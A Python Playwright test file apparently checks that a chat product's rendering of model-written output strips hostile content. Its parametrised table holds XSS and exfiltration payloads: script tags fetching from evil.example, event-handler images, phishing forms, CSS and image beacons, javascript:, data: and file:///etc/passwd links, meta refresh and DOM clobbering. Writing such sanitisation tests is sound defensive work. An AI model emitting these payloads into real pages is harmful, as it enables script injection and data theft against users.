"""A model may write anything: on the page it is text, and nothing is asked of anybody else."""

from collections.abc import Awaitable, Callable

import pytest
from playwright.async_api import Locator, expect

from tests.fakes.scripted_model import ScriptedModel, say
from tests.playground.conftest import Serving, Visit, Visiting

Look = Callable[[Locator], Awaitable[None]]
AWAY = "http://evil.example"


async def no_element(prose: Locator) -> None:
    await expect(
        prose.locator("script, img, iframe, form, input, style, svg, object, embed, video, link")
    ).to_have_count(0)
    assert await prose.evaluate(
        "each => [...each.querySelectorAll('*')].every(e => !e.getAttributeNames().some(n => /^on|style|src/.test(n)))"
    )


async def no_link(prose: Locator) -> None:
    await expect(prose.locator("a[href]")).to_have_count(0)


WRITTEN: dict[str, tuple[str, Look]] = {
    "script": ("<script>document.title = 'taken'; fetch('http://evil.example/s')</script>", no_element),
    "handler": (f'<img src="{AWAY}/a.png" onerror="document.title = \'taken\'">', no_element),
    "svg": ("<svg onload=\"document.title = 'taken'\"><script>document.title = 'taken'</script></svg>", no_element),
    "frame": (f'<iframe src="{AWAY}"></iframe><object data="{AWAY}"></object><embed src="{AWAY}">', no_element),
    "form": (f'<form action="{AWAY}"><input name="key" autofocus><button>Sign in</button></form>', no_element),
    "style": (f"<style>body {{ background: url({AWAY}/b.png) }}</style><p style='position:fixed'>x</p>", no_element),
    "remote image": (f"![invoice]({AWAY}/invoice.png?org=acme)", no_element),
    "data image": ("![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", no_element),
    "javascript link": ("[click](javascript:document.title='taken')", no_link),
    "encoded javascript link": ("[click](&#106;avascript:document.title='taken') <a href='java\tscript:1'>x", no_link),
    "data link": ("[click](data:text/html,<script>1</script>)", no_link),
    "file link": ("[click](file:///etc/passwd) [here](vbscript:x) [there](//evil.example/x)", no_link),
    "preload": (f'<link rel="preload" href="{AWAY}/p.js"><meta http-equiv="refresh" content="0;{AWAY}">', no_element),
    "clobbering": ('<a id="main" name="body">x</a><form id="sidebar"></form><img name="location">', no_element),
}  # fmt: skip


@pytest.mark.parametrize("kind", WRITTEN)
async def test_what_a_model_writes_does_no_harm(serving: Serving, visiting: Visiting, kind: str) -> None:
    written, look = WRITTEN[kind]
    text = f"before {written}\n\n{written}\n\nafter"
    visit: Visit = await visiting(await serving(ScriptedModel([say(text)])))
    await visit.ask("What now?")
    prose = (await visit.answered()).locator(".prose")
    await expect(prose).to_contain_text("before")
    await expect(prose).to_contain_text("after")
    await look(prose)
    await visit.page.reload()
    await visit.answered()
    await look(visit.answer.locator(".prose"))
    await expect(visit.page).to_have_title("What now? · Cloud-cost chat")
    assert visit.page.url.startswith(visit.product.url)


async def test_a_link_opens_beside_the_page_and_tells_nothing(serving: Serving, visiting: Visiting) -> None:
    text = f"See [the docs](https://cloud.example/docs) or [this]({AWAY}) or https://plain.example/x."
    visit: Visit = await visiting(await serving(ScriptedModel([say(text)])))
    await visit.ask("What now?")
    links = (await visit.answered()).locator(".prose a[href]")
    await expect(links).to_have_count(3)
    for link in await links.all():
        await expect(link).to_have_attribute("target", "_blank")
        await expect(link).to_have_attribute("rel", "noopener noreferrer")


async def test_a_huge_table_stays_in_its_box(serving: Serving, visiting: Visiting) -> None:
    columns = 20
    line = "|".join(["value"] * columns)
    text = "\n".join([f"|{line}|", f"|{'|'.join(['---'] * columns)}|", *[f"|{line}|"] * 1500, "", "after"])
    visit: Visit = await visiting(await serving(ScriptedModel([say(text)])))
    await visit.ask("What now?")
    prose = (await visit.answered()).locator(".prose")
    await expect(prose.locator("tbody tr:visible")).to_have_count(50)
    await expect(prose.get_by_role("button", name="Show 1450 more rows")).to_be_visible()
    box = await prose.get_by_role("region", name="Table").bounding_box()
    assert box is not None
    assert box["height"] < 500
    assert await visit.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await expect(prose).to_contain_text("after")


async def test_names_in_rows_and_titles_are_text(serving: Serving, visiting: Visiting) -> None:
    hostile = "<img src=x onerror=\"document.title = 'taken'\">"
    visit: Visit = await visiting(await serving(ScriptedModel([say("Fine.")])))
    await visit.ask(hostile)
    await visit.answered()
    await expect(visit.page.get_by_role("article", name="You asked")).to_have_text(hostile)
    await expect(visit.page.get_by_role("heading", level=1)).to_have_text(hostile)
    await expect(visit.page.get_by_role("navigation").get_by_text(hostile).first).to_be_visible()
    await expect(visit.page.locator("img")).to_have_count(0)
